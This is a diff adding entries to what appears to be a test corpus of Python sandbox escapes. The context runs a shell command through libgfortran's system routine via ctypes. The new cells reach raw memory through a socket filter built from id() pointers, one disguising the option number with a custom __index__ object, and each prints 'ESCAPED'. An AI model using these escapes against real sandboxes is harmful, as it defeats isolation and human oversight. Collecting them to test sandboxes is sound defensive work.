@@ -198,6 +198,21 @@ library = made_by_import(functools.partial(ctypes.CDLL, name))
 function = made_by_import(functools.partial(getattr, library, "_gfortran_system_sub"))
 made_by_import(functools.partial(function, command, None, len(command)))
 
+# %% memory by the filter of a socket — its address is in the value, and it comes back beyond the end of what takes it
+import asyncio.base_events, struct
+one, two = asyncio.base_events.socket.socketpair()
+program = struct.pack("HBBI", 6, 0, 0, 7)
+one.setsockopt(1, 26, struct.pack("HxxxxxxQ", 1, id(program) + b"".__sizeof__() - 1))
+print("ESCAPED" if one.getsockopt(1, 26, 1) else "")
+
+# %% memory by the filter of a socket by an object — what is a number when it is asked
+import asyncio.base_events, struct
+one, two = asyncio.base_events.socket.socketpair()
+program = struct.pack("HBBI", 6, 0, 0, 7)
+Sly = type("Sly", (), {"__index__": lambda self: 26})
+call(one.setsockopt, 1, Sly(), struct.pack("HxxxxxxQ", 1, id(program) + b"".__sizeof__() - 1))
+print("ESCAPED")
+
 # %% numpy's own ctypes — a pointer to the memory of an array
 # needs: numpy
 import numpy
